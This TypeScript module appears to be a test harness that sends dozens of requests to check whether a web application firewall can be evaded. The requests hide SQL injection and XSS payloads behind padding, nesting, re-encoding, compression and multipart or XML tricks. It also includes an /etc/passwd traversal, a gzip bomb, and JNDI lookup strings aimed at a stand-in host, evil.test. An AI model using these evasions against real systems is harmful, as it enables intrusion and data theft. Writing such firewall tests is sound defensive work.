// Ways to get an attack past a WAF: where it stands, and how it is spelt.
import { gzipSync } from 'node:zlib'
import type { AskOptions } from '../support/ask.ts'

type Answered = Promise<{ readonly status: number }>

export interface Senders {
  send(path: string, options?: AskOptions): Answered
  post(type: string, body: string | Buffer, headers?: Record<string, string>): Answered
}

export const sql = "1' OR '1'='1"
export const script = '<script>alert(1)</script>'
export const json = 'application/json'
export const form = 'application/x-www-form-urlencoded'
const nested = (depth: number, inner: string) => '{"a":['.repeat(depth) + inner + ']}'.repeat(depth)
const escaped = Array.from(sql, (char) => `\\u00${char.charCodeAt(0).toString(16)}`).join('')

const large = 120_000

export function tricksOf({ send, post }: Senders): readonly [title: string, request: () => Answered][] {
  return [
    ['behind padding in a query', () => send(`/items?${'a=1&'.repeat(1_500)}q=${encodeURIComponent(sql)}`)],
    ['behind padding in a form', () => post(form, `pad=${'x'.repeat(large)}&q=${encodeURIComponent(sql)}`)],
    ['behind many fields', () => post(form, `${'a=1&'.repeat(9_000)}q=${encodeURIComponent(sql)}`)],
    ['behind padding in JSON', () => post(json, JSON.stringify({ pad: 'x'.repeat(large), q: sql }))],
    ['behind blanks in JSON', () => post(json, `{${' '.repeat(large)}"q":${JSON.stringify(sql)}}`)],
    ['behind more than is inspected', () => post(json, JSON.stringify({ pad: 'x'.repeat(200_000), q: sql }))],
    [
      'behind more than is inspected, in chunks',
      () =>
        post(json, JSON.stringify({ pad: 'x'.repeat(200_000), q: sql }), { 'transfer-encoding': 'chunked' }),
    ],
    [
      'within padding of its own value',
      () => post(json, JSON.stringify({ q: `${' '.repeat(1_000)}${sql}` })),
    ],
    ['deep in JSON', () => post(json, nested(200, JSON.stringify(sql)))],
    ['deeper than JSON may be', () => post(json, nested(2_000, JSON.stringify(sql)))],
    ['far down an array', () => post(json, JSON.stringify([...Array(5_000).fill(1), sql]))],
    ['in a repeated member', () => post(json, `{"q":"a","q":${JSON.stringify(sql)},"q":"b"}`)],
    ['in escapes', () => post(json, `{"q":"${escaped}"}`)],
    ['in a name', () => post(json, JSON.stringify({ [script]: 1 }))],
    ['in a name of nothing', () => post(json, JSON.stringify({ [script]: [] }))],
    [
      'in JSON of another name',
      () => post('application/vnd.api+json; charset=utf-8', JSON.stringify({ q: sql })),
    ],
    ['in JSON with a mark before it', () => post(json, `\ufeff${JSON.stringify({ q: sql })}`)],
    ['in JSON that is cut off', () => post(json, JSON.stringify({ q: sql }).slice(0, -1))],
    ['in JSON in UTF-16', () => post(json, Buffer.from(JSON.stringify({ q: sql }), 'utf16le'))],
    ['encoded twice', () => send(`/items?q=${encodeURIComponent(encodeURIComponent(sql))}`)],
    ['in overlong bytes', () => send('/items/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd')],
    [
      'compressed',
      () => post(form, gzipSync(`q=${encodeURIComponent(sql)}`), { 'content-encoding': 'gzip' }),
    ],
    [
      'compressed beyond measure',
      () => post(form, gzipSync(Buffer.alloc(5_000_000, 'a=1&')), { 'content-encoding': 'gzip' }),
    ],
    ['under an unknown coding', () => post(form, 'q=1', { 'content-encoding': 'rot13' })],
    ['in another character set', () => post(`${form}; charset=utf-7`, 'q=+ACc- OR 1=1')],
    [
      'in a part of multipart',
      () =>
        post(
          'multipart/form-data; boundary=b',
          `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sql}\r\n--b--\r\n`,
        ),
    ],
    [
      'in multipart behind a file',
      () =>
        post(
          'multipart/form-data; boundary=b',
          `--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n\r\n${'x'.repeat(500_000)}\r\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sql}\r\n--b--\r\n`,
        ),
    ],
    [
      'in multipart with an odd boundary',
      () =>
        post(
          'multipart/form-data; boundary="b"; boundary=c',
          `--c\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sql}\r\n--c--\r\n`,
        ),
    ],
    [
      'in an entity of XML',
      () => post('text/xml', `<!DOCTYPE a [<!ENTITY q "${sql.replaceAll('"', '')}">]><a>&q;</a>`),
    ],
    [
      'in an attribute of XML',
      () => post('application/soap+xml', `<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>`),
    ],
    ['in a header', () => send('/items', { headers: { 'x-api-version': '${jndi:ldap://evil.test/a}' } })],
    [
      'in a cookie, for a look-up',
      () => send('/items', { headers: { cookie: 'a=${jndi:ldap://evil.test/a}' } }),
    ],
  ]
}
